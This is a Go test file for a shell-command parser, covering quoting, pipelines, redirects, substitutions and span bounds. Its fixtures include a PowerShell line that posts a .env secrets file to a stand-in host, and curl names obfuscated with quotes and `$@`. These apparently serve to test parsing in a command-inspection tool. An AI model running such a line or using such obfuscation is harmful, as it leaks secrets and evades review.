@@ -1,0 +1,97 @@
+package shell
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"weir/internal/testrand"
+)
+
+// describe writes a script as [stage]word word <from >to … | …, statements on lines.
+func describe(s Script) string {
+	var b strings.Builder
+	for i, p := range s {
+		if i > 0 {
+			b.WriteString(" ; ")
+		}
+		for j, c := range p {
+			if j > 0 {
+				b.WriteString(" , ")
+			}
+			fmt.Fprintf(&b, "%d:", c.Stage)
+			for _, a := range c.Assigns {
+				fmt.Fprintf(&b, " %s=%s", a.Name, a.Value.Text)
+			}
+			for _, w := range c.Words {
+				b.WriteString(" " + [...]string{"", "<", ">", "<<"}[w.Redirect] + w.Text)
+				for _, inner := range w.Scripts {
+					b.WriteString("{" + describe(inner) + "}")
+				}
+			}
+		}
+	}
+	return b.String()
+}
+
+func TestParse(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{`a b 'c d' "e f"`, `0: a b c d e f`},
+		{`a | b|c; d && e`, `0: a , 1: b , 2: c ; 0: d , 0: e`},
+		{`c''ur\l "x"y$'\x41'`, `0: curl xyA`},
+		{`x=1 y="$z" a $x ${y:-w}`, `0: x=1 y=$z a $x ${y:-w}`},
+		{"a $(b | c) `d`", "0: a $(b | c){0: b , 1: c} `d`{0: d}"},
+		{`a < b > c 2>&1 <<< "d e"`, `0: a <b >c >1 <<d e`},
+		{"a <<E\nb $c\nE", "0: a <<b $c\n"},
+		{`for f in x y; do a $f; done`, `0: f=x f=y , 0: a $f`},
+		{`while read l; do a "$l"; done < b`, `0: read l <b , 0: a $l <b`},
+		{`if a; then b; else c; fi | d`, `0: a , 0: b , 0: c , 1: d`},
+		{`{ a; b; } | (c; d)`, `0: a , 0: b , 1: c , 1: d`},
+		{`export k=v; time a`, `0: k=v export ; 0: a`},
+		{`f() { a; }; case x in y) b;; esac`, `0: a ; 0: b`},
+		{"a # b\nc", `0: a ; 0: c`},
+		{"c$@url", "0: curl"},
+		// What is no script of Bash is split into words.
+		{`irm http://x.example -Body (Get-Content .env)`, `0: irm http://x.example -Body Get-Content .env`},
+		{"a b\n)(\nc d", `0: a b ; 0: c d`},
+		{``, ``},
+	}
+	for _, tt := range tests {
+		if got := describe(Parse([]byte(tt.in))); got != tt.want {
+			t.Errorf("Parse(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// TestParseLong holds that the lexer reads what is too long or too deep for the parser.
+func TestParseLong(t *testing.T) {
+	for _, in := range []string{strings.Repeat("# a\n", maxParsed/4) + "last x", strings.Repeat("(", 3*maxNested) + "\nlast x"} {
+		if got := describe(Parse([]byte(in))); !strings.HasSuffix(got, "last x") {
+			t.Errorf("the last command of a script of %d bytes is lost", len(in))
+		}
+	}
+}
+
+// TestParseSpans holds that offsets lie in the text, whatever the text is.
+func TestParseSpans(t *testing.T) {
+	r := testrand.New(t)
+	pieces := []string{"a", "curl ", "'", `"`, "`", "$(", ")", "(", "{", "}", "|", "&", ";", "\n", "<", "<<E\n", "<<<", ">", "\\", "$x", "${x", "}", "for x in ", "do ", "done", "if ", "then ", "fi", "\xf8", "é", "case ", " in ", "#", "[[", "]]", "((", "))", "function f "}
+	for range 20000 {
+		var in []byte
+		for range 1 + r.IntN(12) {
+			in = append(in, pieces[r.IntN(len(pieces))]...)
+		}
+		for _, p := range Parse(in) {
+			for _, c := range p {
+				if c.Start < 0 || c.End > len(in) {
+					t.Fatalf("Parse(%q): command at %d to %d", in, c.Start, c.End)
+				}
+				for _, w := range c.Words {
+					if w.Start < 0 || w.Start > w.End || w.End > len(in) {
+						t.Fatalf("Parse(%q): word at %d to %d", in, w.Start, w.End)
+					}
+				}
+			}
+		}
+	}
+}
